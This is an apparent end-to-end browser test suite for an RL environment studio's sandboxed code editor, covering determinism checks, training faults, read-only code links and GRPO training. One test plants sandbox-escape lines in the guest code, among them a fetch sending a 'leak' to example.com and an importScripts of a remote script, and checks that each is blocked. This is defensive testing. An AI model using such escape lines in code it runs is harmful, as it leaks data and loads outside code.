/**
 * The env studio's Code tab in Chromium: a code env with a nondeterminism bug is refused by the
 * check with its line; the fixed one plays by hand, runs a random agent and trains (GRPO) to
 * success ≥ 0.9. Escape attempts fail visibly, each at its line, and leave the page untouched:
 * fetch (no request leaves), indexedDB (no database appears), localStorage (no key), importScripts,
 * postMessage (the page hears nothing), `while (true) {}` (stopped at the deadline, at its line). The
 * faults training hits (a NaN reward, a leak, a slow step, a loop in a helper) show at their line. A code link
 * opens read-only under a banner and runs nothing — no code worker even starts — until Run.
 * axe-core, 390 px width and the keyboard on the tab.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, inject, it } from 'vitest';
import type { Page } from 'playwright-core';
import { ARTIFACTS, useBrowser, watchErrors, axeProblems, newestSavedRun } from './browser.ts';

const appUrl = inject('appUrl');
const browser = useBrowser();
const ROOM = readFileSync(new URL('../examples/envs/empty-room.js', import.meta.url), 'utf8');
/** The example shrunk to a 5×5 room (64 steps), so a run learns it in a few iterations. */
const SMALL = ROOM.replace('const SIZE = 8,', 'const SIZE = 5,').replace('maxSteps: 256,', 'maxSteps: 64,').replace("title: 'Empty room 8x8 (code)'", "title: 'Empty room 5x5 (code)'");
/** The same with a nondeterminism bug: the start heading drawn from Math.random. */
const BUGGY = SMALL.replace('x = 1; y = 1; dir = 0;', 'x = 1; y = 1;\n  dir = Math.floor(Math.random() * 4);');
/** A one-row corridor (view 3): walk right to the goal at x = 5; its expert always walks right. Short, so every line is on screen. */
const CORRIDOR = `export const env = {
  title: 'Corridor',
  description: 'A one-row corridor: walk right to the goal at its end.',
  actions: ['left', 'right'],
  observation: { kind: 'grid', view: 3 },
  maxSteps: 20,
  rewardRange: [0, 1],
};
let x = 0, steps = 0;
const history = [];
function observe() {
  const image = new Array(27).fill(0);
  for (let k = 0; k < 9; k++) image[k * 3] = k === 1 && x === 4 ? 8 : 1;
  return { image, direction: 0 };
}
export function reset(seed) {
  x = 0; steps = 0;
  return observe();
}
export function step(action) {
  steps++;
  x = Math.max(0, Math.min(5, x + (action === 1 ? 1 : -1)));
  const success = x === 5;
  const terminated = success, truncated = !terminated && steps >= env.maxSteps;
  const reward = success ? 1 - steps / 40 : 0;
  return { observation: observe(), reward, terminated, truncated, info: terminated || truncated ? { success } : {} };
}
export function expert() {
  return 1;
}
`;
const lineOf = (code: string, text: string) => code.split('\n').findIndex((l) => l.includes(text)) + 1;

async function paste(page: Page, code: string): Promise<void> {
  const content = page.locator('[data-testid=code-env-editor] .cm-content');
  await content.click();
  await page.keyboard.press('Control+A');
  await content.evaluate((el, text) => {
    const data = new DataTransfer();
    data.setData('text/plain', text);
    el.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
  }, code);
}

const checkStatus = (page: Page) => page.getByTestId('code-env-check-status').textContent();

async function saveAndWait(page: Page): Promise<string> {
  await page.getByTestId('code-env-save').click();
  await expect.poll(() => checkStatus(page), { timeout: 60_000 }).toMatch(/^Check (passed|failed)/);
  return (await checkStatus(page))!;
}


describe('env studio: code envs', () => {
  it('refuses a nondeterministic env at its line; the fixed one plays, runs a random agent and trains GRPO to success >= 0.9', { timeout: 400_000 }, async () => {
    const page = await browser().newPage({ viewport: { width: 1300, height: 1000 } });
    const errors = watchErrors(page);
    await page.goto(`${appUrl}?backend=wasm#view=studio&tab=code`);
    await page.getByTestId('code-env-panel').waitFor();
    await paste(page, BUGGY);
    expect(await saveAndWait(page)).toBe('Check failed: 1 problem.');
    const problem = await page.getByTestId('code-env-problems').textContent();
    expect(problem).toContain(`Line ${lineOf(BUGGY, 'Math.random')} [determinism] the same seed must give the same episode`);
    await expect.poll(() => page.locator('[data-testid=code-env-editor] .cm-lintRange-error').count()).toBeGreaterThan(0);
    await page.screenshot({ path: `${ARTIFACTS}/code-env-refused.png` });
    expect(await axeProblems(page)).toEqual([]);

    await paste(page, SMALL);
    expect(await saveAndWait(page)).toMatch(/^Check passed: Empty room 5x5 \(code\) \(grid, 7 actions, 64 steps at most\)/);
    // Play by hand with the keyboard: focus the play area, turn right, walk down to the goal.
    await page.getByTestId('code-env-play').click();
    await page.getByTestId('code-env-stage').focus();
    for (const key of ['ArrowUp', 'ArrowUp', 'ArrowRight', 'ArrowUp', 'ArrowUp']) await page.keyboard.press(key);
    await expect.poll(() => page.getByTestId('code-env-play-status').textContent()).toMatch(/^step 5\/64 · return 0\.9\d+ · success$/);
    await page.screenshot({ path: `${ARTIFACTS}/code-env-play.png` });
    await page.getByTestId('code-env-random').click();
    await expect.poll(() => page.getByTestId('code-env-random-result').textContent(), { timeout: 60_000 }).toMatch(/^success \d+% over 100 seeds/);
    expect(await axeProblems(page)).toEqual([]);

    await page.getByTestId('code-env-preset').selectOption('grid-empty-8x8-grpo');
    await page.getByTestId('code-env-train').click();
    const status = page.getByTestId('train-status');
    await expect.poll(async () => Number(await status.getAttribute('data-max-success')), { timeout: 300_000, interval: 500 }).toBeGreaterThanOrEqual(0.9);
    const it = Number(await status.getAttribute('data-iteration'));
    console.log(`code env (5x5 room) trained with GRPO in the tab: success >= 0.9 by iteration ${it}`);
    await page.screenshot({ path: `${ARTIFACTS}/code-env-trained.png` });
    expect(errors).toEqual([]);
    // The Train view's link carries the module: opened again (a reload, a copy), it shows the code
    // in the Studio under the banner, and runs nothing (no worker) until Run.
    const trainLink = page.url();
    expect(decodeURIComponent(trainLink)).toContain('env.id=code/custom');
    page.on('dialog', (d) => void d.accept());
    await page.close({ runBeforeUnload: false });
    const again = await browser().newPage();
    const started: string[] = [];
    again.on('worker', (w) => started.push(w.url()));
    await again.goto(trainLink);
    await again.getByTestId('code-env-banner').waitFor();
    expect(await again.getByTestId('studio-tab-code').getAttribute('aria-selected')).toBe('true');
    expect(await again.locator('[data-testid=code-env-editor] .cm-content').textContent()).toContain('export');
    await again.waitForTimeout(1500);
    expect(started).toEqual([]);
    await again.screenshot({ path: `${ARTIFACTS}/code-env-train-link.png` });
    await again.close();
  });

  it('a code link pasted into an open tab opens under the banner; Keep my code puts the own code back; a pasted Train link runs on Run', { timeout: 240_000 }, async () => {
    const page = await browser().newPage({ viewport: { width: 1300, height: 1000 } });
    const errors = watchErrors(page);
    await page.goto(`${appUrl}?backend=wasm#view=studio&tab=code`);
    await page.getByTestId('code-env-panel').waitFor();
    const editor = page.locator('[data-testid=code-env-editor] .cm-content');
    const firstLine = () => editor.locator('.cm-line').first().textContent();
    const own = await firstLine();
    expect(await page.getByTestId('code-env-banner').count()).toBe(0);
    const linked = `// from a link\n${SMALL}`;
    await page.evaluate((h) => void (location.hash = h), `#view=studio&tab=code&code=${encodeURIComponent(linked)}`);
    await page.getByTestId('code-env-banner').waitFor();
    expect(await firstLine()).toBe('// from a link');
    expect(await page.getByTestId('code-env-save').isDisabled()).toBe(true);
    await page.screenshot({ path: `${ARTIFACTS}/code-env-pasted-link.png` });
    await page.getByTestId('code-env-keep-own').click();
    expect(await page.getByTestId('code-env-banner').count()).toBe(0);
    expect(await firstLine()).toBe(own);
    expect(await checkStatus(page)).toBe('Not checked yet.');
    // A Train link on a code env, pasted: the Code tab with its code, run only on Run.
    const trained = `// from a Train link\n${SMALL}`;
    await page.evaluate((h) => void (location.hash = h), `#view=train&preset=grid-empty-8x8-grpo&env.id=code/custom&env.kwargs.code=${encodeURIComponent(trained)}`);
    await expect.poll(firstLine, { timeout: 10_000 }).toBe('// from a Train link');
    await page.getByTestId('code-env-run').click();
    await expect.poll(() => checkStatus(page), { timeout: 60_000 }).toMatch(/^Check passed: Empty room 5x5 \(code\)/);
    expect(await page.getByTestId('code-env-banner').count()).toBe(0);
    expect(await axeProblems(page)).toEqual([]);
    expect(errors).toEqual([]);
    await page.close();
  });

  it('escape attempts fail visibly at their line and leave the page untouched', { timeout: 240_000 }, async () => {
    const page = await browser().newPage({ viewport: { width: 1300, height: 1000 } });
    const outbound: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith(appUrl)) outbound.push(r.url());
    });
    await page.goto(`${appUrl}?backend=wasm#view=studio&tab=code`);
    await page.getByTestId('code-env-panel').waitFor();
    await page.evaluate(() => {
      (window as unknown as { heard: number }).heard = 0;
      addEventListener('message', () => (window as unknown as { heard: number }).heard++);
    });
    const dbNames = () => page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name).sort());
    // The app opens its own run store at load (main.tsx refreshRuns), a moment after the panel
    // shows; wait for it so the comparison below sees only what the guest code could add.
    await expect.poll(dbNames, { timeout: 15_000 }).toContain('agentic-rl-playground-runs');
    const dbsBefore = await dbNames();
    const attempts: [string, string, RegExp][] = [
      ['fetch', "fetch('https://example.com/?leak=1');", /\[exception\] step\(\) threw ReferenceError: '?fetch'? is not defined/],
      ['indexedDB', "indexedDB.open('escaped');", /\[exception\] step\(\) threw ReferenceError: '?indexedDB'? is not defined/],
      ['localStorage', "localStorage.setItem('escaped', '1');", /\[exception\] step\(\) threw ReferenceError: '?localStorage'? is not defined/],
      ['importScripts', "importScripts('https://example.com/x.js');", /\[exception\] step\(\) threw ReferenceError: '?importScripts'? is not defined/],
      ['postMessage', "postMessage({ escaped: true }, '*');", /\[exception\] step\(\) threw ReferenceError: '?postMessage'? is not defined/],
      ['while (true)', 'while (true) {}', /\[timeout\] step\(\) ran past its 1000 ms limit and was stopped: the loop at line \d+ ran [\d,]+ times in this call without ending \(an infinite loop\?\)/],
    ];
    for (const [name, stmt, message] of attempts) {
      const code = SMALL.replace('  steps++;', `  steps++;\n  ${stmt}`);
      await paste(page, code);
      expect(await saveAndWait(page), name).toMatch(/^Check failed/);
      const text = (await page.getByTestId('code-env-problems').textContent())!;
      expect(text, name).toMatch(message);
      // Exact, the loop included (the checking sandbox counts each loop's iterations).
      expect(Number(/Line (\d+)/.exec(text)![1]), name).toBe(lineOf(code, stmt));
      if (name === 'while (true)') await page.screenshot({ path: `${ARTIFACTS}/code-env-escape-loop.png` });
    }
    expect(outbound).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { heard: number }).heard)).toBe(0);
    expect(await page.evaluate(() => localStorage.getItem('escaped'))).toBeNull();
    expect(await dbNames()).toEqual(dbsBefore);
    await page.close();
  });

  it('the faults training hits (a NaN reward, memory growing across resets, a step too slow to train, a loop in a helper) show in the list and as lint marks on their line', { timeout: 240_000 }, async () => {
    // Not about the training backend: no ?backend= (the check runs in the code worker's QuickJS).
    const page = await browser().newPage({ viewport: { width: 1300, height: 1000 } });
    const errors = watchErrors(page);
    await page.goto(`${appUrl}#view=studio&tab=code`);
    await page.getByTestId('code-env-panel').waitFor();
    const faults: [string, string, string, string, string][] = [
      ['NaN reward', 'const reward = success ? 1 - steps / 40 : 0;', 'const reward = success ? Math.sqrt(steps - 7) / 4 : 0;', 'reward', 'a reward must be a finite number'],
      ['leak', '  steps++;', '  steps++;\n  history.push(observe());', 'memory', 'memory grows across resets'],
      ['slow step', '  steps++;', '  steps++;\n  const t0 = Date.now(); while (Date.now() - t0 < 50) {}', 'speed', 'too slow to train'],
      ['loop in a helper', '  steps++;', '  steps++;\n  for (let j = 0; j < 3; j += 0) observe();', 'timeout', 'ran past its 1000 ms limit'],
    ];
    for (const [name, from, to, rule, message] of faults) {
      const code = CORRIDOR.replace(from, to);
      const at = to.split('\n').pop()!.trim();
      await paste(page, code);
      expect(await saveAndWait(page), name).toMatch(/^Check failed/);
      const text = (await page.getByTestId('code-env-problems').textContent())!;
      expect(text, name).toContain(`Line ${lineOf(code, at)} [${rule}]`);
      expect(text, name).toContain(message);
      // The lint mark covers that line of the editor.
      await expect.poll(async () => (await page.locator('[data-testid=code-env-editor] .cm-lintRange-error').allTextContents()).join(''), { timeout: 10_000 }).toContain(code.split('\n')[lineOf(code, at) - 1]);
      if (name === 'leak') await page.screenshot({ path: `${ARTIFACTS}/code-env-leak.png` });
    }
    expect(await axeProblems(page)).toEqual([]);
    await paste(page, CORRIDOR);
    expect(await saveAndWait(page)).toMatch(/^Check passed: Corridor/);
    expect(errors).toEqual([]);
    await page.close();
  });

  it('a code link opens read-only under a banner and runs nothing until Run; 390 px and the keyboard work', { timeout: 180_000 }, async () => {
    const page = await browser().newPage({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
    const workers: string[] = [];
    page.on('worker', (w) => workers.push(w.url()));
    await page.goto(`${appUrl}?backend=wasm#view=studio&tab=code&code=${encodeURIComponent(SMALL)}`);
    await page.getByTestId('code-env-banner').waitFor();
    expect(await page.getByTestId('code-env-banner').textContent()).toMatch(/This link carries code\. Nothing has run yet\. Review it below, then press Run/);
    expect(await checkStatus(page)).toBe('Not run: review the code, then press Run.');
    expect(await page.getByTestId('code-env-save').isDisabled()).toBe(true);
    // Read-only: typing changes nothing.
    await page.locator('[data-testid=code-env-editor] .cm-content').click();
    await page.keyboard.type('xyz');
    expect(await page.locator('[data-testid=code-env-editor] .cm-content').textContent()).not.toContain('xyz');
    await page.waitForTimeout(1500);
    expect(workers.filter((u) => /studioWorker/.test(u))).toEqual([]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)).toBeLessThanOrEqual(0);
    await page.screenshot({ path: `${ARTIFACTS}/code-env-link-banner-phone.png`, fullPage: true });
    expect(await axeProblems(page)).toEqual([]);
    // Run by keyboard: focus the button, press Enter.
    await page.getByTestId('code-env-run').focus();
    await page.keyboard.press('Enter');
    await expect.poll(() => checkStatus(page), { timeout: 60_000 }).toMatch(/^Check passed/);
    expect(workers.filter((u) => /studioWorker/.test(u))).toHaveLength(1);
    expect(await page.getByTestId('code-env-banner').count()).toBe(0);
    expect(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)).toBeLessThanOrEqual(0);
    await page.screenshot({ path: `${ARTIFACTS}/code-env-phone-checked.png`, fullPage: true });
    expect(await axeProblems(page)).toEqual([]);
    await page.close();
  });

  // The newcomer's path: no query string, so Auto times WASM against the software WebGPU adapter
  // this Chromium exposes, which builds the env in the training worker before the run does (it
  // failed there with "its sandbox is not loaded in this thread"). Then the same without WebGPU.
  for (const gpu of ['with a WebGPU adapter', 'without WebGPU'] as const) {
    it(`trains a code env from the Studio with the default backend (Auto, ${gpu}) and exports its policy card`, { timeout: 300_000 }, async () => {
      const page = await browser().newPage({ viewport: { width: 1300, height: 1000 } });
      const errors = watchErrors(page);
      if (gpu === 'without WebGPU') await page.addInitScript(() => Object.defineProperty(Navigator.prototype, 'gpu', { get: () => undefined }));
      await page.goto(`${appUrl}#view=studio&tab=code`);
      await page.getByTestId('code-env-panel').waitFor();
      await paste(page, SMALL);
      expect(await saveAndWait(page)).toMatch(/^Check passed/);
      await page.getByTestId('code-env-preset').selectOption('grid-empty-8x8-grpo');
      await page.getByTestId('code-env-train').click();
      const status = page.getByTestId('train-status');
      await expect.poll(async () => Number(await status.getAttribute('data-iteration')), { timeout: 240_000, interval: 500 }).toBeGreaterThanOrEqual(3);
      const engine = await status.getAttribute('data-engine');
      console.log(`code env, default backend ${gpu}: iteration 3 reached on ${engine}`);
      expect(engine).toMatch(gpu === 'without WebGPU' ? /wasm/ : /wasm|webgpu/);
      await page.getByTestId('train-pause').click();
      await expect.poll(() => status.getAttribute('data-status'), { timeout: 60_000 }).toBe('paused');
      // Runs' policy card builds the config's env on the page's thread: the sandbox loads there too.
      // Runs reads the store once as it opens: open it once the pause's checkpoint is saved.
      await expect.poll(async () => (await newestSavedRun(page))?.checkpointAt ?? 0, { timeout: 30_000 }).toBeGreaterThanOrEqual(1);
      await page.getByTestId('view-runs').click();
      await page.getByTestId('run-row').first().getByTestId('run-open').click();
      await page.getByTestId('run-detail').waitFor();
      const [download] = await Promise.all([page.waitForEvent('download', { timeout: 30_000 }), page.getByTestId('export-policy-json').click()]);
      const card = JSON.parse(readFileSync(await download.path(), 'utf8')) as unknown;
      expect(JSON.stringify(card)).toContain('code/custom');
      expect(errors).toEqual([]);
      await page.close();
    });
  }

  it('a Train link on a code env with percent-encoded keys meets the banner, not a load error', { timeout: 120_000 }, async () => {
    const page = await browser().newPage({ viewport: { width: 1300, height: 1000 } });
    const errors = watchErrors(page);
    await page.goto(`${appUrl}#view=train&preset=grid-empty-8x8-grpo&env%2Eid=code/custom&env%2Ekwargs%2Ecode=${encodeURIComponent(SMALL)}`);
    await page.getByTestId('code-env-banner').waitFor();
    expect(await page.locator('[data-testid=code-env-editor] .cm-content').textContent()).toContain('Empty room 5x5 (code)');
    expect(await page.getByText(/sandbox is not loaded/).count()).toBe(0);
    expect(errors).toEqual([]);
    await page.close();
  });
});
